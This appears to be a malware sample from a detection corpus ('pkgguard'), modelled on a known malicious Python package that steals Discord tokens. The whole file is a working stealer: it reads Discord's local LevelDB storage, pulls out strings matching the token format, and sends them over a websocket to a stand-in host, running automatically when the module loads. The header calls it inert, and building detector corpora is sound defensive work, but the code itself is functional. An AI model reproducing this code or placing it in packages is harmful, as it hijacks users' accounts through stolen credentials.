# pkgguard corpus 361 (discord-token), modelled on [discordpydebug]; inert, never run.
import asyncio
import os
import re

import plyvel
import websockets

path = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")


async def ship():
    db = plyvel.DB(path, create_if_missing=False)
    found = [v.decode(errors="ignore") for _, v in db if re.search(rb"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", v)]
    async with websockets.connect("wss://relay.example/t") as ws:
        await ws.send("\n".join(found))


asyncio.run(ship())
